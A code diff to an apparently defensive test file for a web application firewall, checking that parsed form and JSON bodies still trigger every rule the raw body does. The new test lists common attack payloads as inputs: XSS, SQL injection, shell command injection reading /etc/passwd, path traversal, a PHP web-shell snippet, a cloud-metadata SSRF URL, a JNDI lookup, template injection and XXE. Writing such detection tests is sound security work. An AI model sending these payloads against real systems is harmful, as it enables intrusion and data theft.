@@ -24,8 +24,9 @@ namespace {
 
 struct Probe {
   const char* what;
-  std::string raw;                     // the request, CRLF line ends
-  std::uint64_t max_body_bytes = 1 << 20;  // under the body: cut, inspect_prefix
+  std::string raw;  // the request, CRLF line ends
+  // The site's max_body_bytes; a longer body is cut there (inspect_prefix).
+  std::uint64_t max_body_bytes = 1 << 20;
 };
 
 struct Sets {
@@ -70,9 +71,9 @@ std::set<std::uint32_t> firedIds(const RuleSet& set, const Probe& probe) {
   if (status != http::ParseStatus::Done && status != http::ParseStatus::Prefix) return {};
   const http::Request request = parser.takeRequest();
   const auto content_type = request.header("content-type");
-  const http::ParsedBody body = http::parseBody(
-      content_type ? *content_type : std::string_view(), request.body, {},
-      request.body_truncated ? http::BodyExtent::Prefix : http::BodyExtent::Whole);
+  const http::ParsedBody body =
+      http::parseBody(content_type ? *content_type : std::string_view(), request.body, {},
+                      request.body_truncated ? http::BodyExtent::Prefix : http::BodyExtent::Whole);
   InspectOptions options;
   options.paranoia_level = 4;
   options.anomaly_threshold = 1'000'000;
@@ -84,7 +85,7 @@ std::set<std::uint32_t> firedIds(const RuleSet& set, const Probe& probe) {
 
 std::string post(std::string_view content_type, std::string_view body,
                  std::string_view extra_headers = "") {
-  std::string out = "POST /api HTTP/1.1\r\nHost: a.test\r\n";
+  std::string out = "POST /api HTTP/1.1\r\nHost: a.test\r\nUser-Agent: probe/1.0\r\n";
   if (!content_type.empty()) out.append("Content-Type: ").append(content_type).append("\r\n");
   out.append(extra_headers);
   out.append("Content-Length: ").append(std::to_string(body.size())).append("\r\n\r\n");
@@ -130,8 +131,8 @@ TEST(UnsplitBody, JsonPrefixKeepsTheStringTheCutFellIn) {
 // A form prefix keeps the field the cut falls in (its end is simply
 // shorter), so a clean form prefix needs no second read.
 TEST(UnsplitBody, FormPrefixFieldsHoldTheCutField) {
-  expectNothingLost({"form prefix, cut in a value",
-                     post(kForm, "a=x&q=" + kXss + std::string(200, 'A')), 100});
+  expectNothingLost(
+      {"form prefix, cut in a value", post(kForm, "a=x&q=" + kXss + std::string(200, 'A')), 100});
 }
 
 // A JSON or XML document labelled as a form is split at '=' and '&' into
@@ -153,10 +154,95 @@ TEST(UnsplitBody, JsonOrXmlLabelledAsAFormKeepsIt) {
 // last one (or join them) and parse the body as something else.
 TEST(UnsplitBody, TwoContentTypesKeepIt) {
   expectNothingLost(
-      {"form first, multipart second",
-       post(kForm,
-            "--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1&&cat /etc/passwd\r\n--x--\r\n",
-            "Content-Type: multipart/form-data; boundary=x\r\n")});
+      {"form first, multipart second", post(kForm,
+                                            "--x\r\nContent-Disposition: form-data; "
+                                            "name=\"q\"\r\n\r\n1&&cat /etc/passwd\r\n--x--\r\n",
+                                            "Content-Type: multipart/form-data; boundary=x\r\n")});
+}
+
+// Percent-encodes every byte but ALPHA / DIGIT, as a form encoder would
+// ('+' for a space).
+std::string formEncode(std::string_view in) {
+  static constexpr char kHex[] = "0123456789ABCDEF";
+  std::string out;
+  for (unsigned char c : in) {
+    if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')) {
+      out.push_back(static_cast<char>(c));
+    } else if (c == ' ') {
+      out.push_back('+');
+    } else {
+      out.push_back('%');
+      out.push_back(kHex[c >> 4]);
+      out.push_back(kHex[c & 15]);
+    }
+  }
+  return out;
+}
+
+// A JSON string literal's content for `in`: '"' and '\' escaped.
+std::string jsonEscape(std::string_view in) {
+  std::string out;
+  for (char c : in) {
+    if (c == '"' || c == '\\') out.push_back('\\');
+    out.push_back(c);
+  }
+  return out;
+}
+
+// Attacks of each rule family in the places a clean form or JSON body
+// holds them: a form value (encoded, and as raw as a client may send
+// it), a form name, a JSON value, a nested JSON value and a JSON key.
+// Read through the fields alone, each must fire every rule the raw body
+// fired. Not here, on purpose: a payload in a nested JSON key, whose name
+// is its path ("a./bin/sh", which normalize_path makes "a/bin/sh", so
+// 140007 no longer sees a path start), and text that only the raw bytes
+// join across a form's '=' or '&' ("allow_url_include=1" as a field
+// named allow_url_include; "x=1&&id", whose '&&' a form parser splits on,
+// so no application sees it as a command).
+TEST(UnsplitBody, CleanFormAndJsonBodiesLoseNoDetection) {
+  const std::vector<std::string> payloads = {
+      "<script>alert(document.cookie)</script>",
+      "<svg onload=alert(1)>",
+      "\"><img src=x onerror=prompt(1)>",
+      "javascript:alert(1)",
+      "1' or '1'='1",
+      "x' union select password from users-- ",
+      "1; waitfor delay '0:0:5'--",
+      ";cat /etc/passwd",
+      "|id",
+      "$(id)",
+      "`uname -a`",
+      "/bin/sh -c id",
+      "{cat,/etc/passwd}",
+      "../../../../etc/passwd",
+      "php://filter/convert.base64-encode/resource=index.php",
+      "http://169.254.169.254/latest/meta-data/",
+      "<?php system($_GET[1]); ?>",
+      "O:8:\"stdClass\":0:{}",
+      "${jndi:ldap://e.test/a}",
+      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
+      "{{7*7}}{{config.items()}}",
+      "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
+      "*)(|(uid=*))",
+      "\r\nSet-Cookie: x=1",
+      "this.a == 1; return true",
+  };
+  for (const auto& payload : payloads) {
+    const std::string json = jsonEscape(payload);
+    const std::vector<Probe> probes = {
+        {"form value", post(kForm, "a=1&q=" + formEncode(payload))},
+        // First: after "a=1&" the raw bytes give 140001 the form's own '&'
+        // as a command separator before "/bin/sh".
+        {"form name", post(kForm, formEncode(payload) + "=1&a=1")},
+        {"json value", post("application/json", R"({"a":1,"q":")" + json + "\"}")},
+        {"json nested value", post("application/json", R"({"a":{"b":[1,")" + json + "\"]}}")},
+        {"json key", post("application/json", R"({"a":1,")" + json + "\":{}}")},
+    };
+    for (const auto& probe : probes) {
+      SCOPED_TRACE(payload);
+      expectNothingLost(probe);
+    }
+  }
 }
 
 }  // namespace
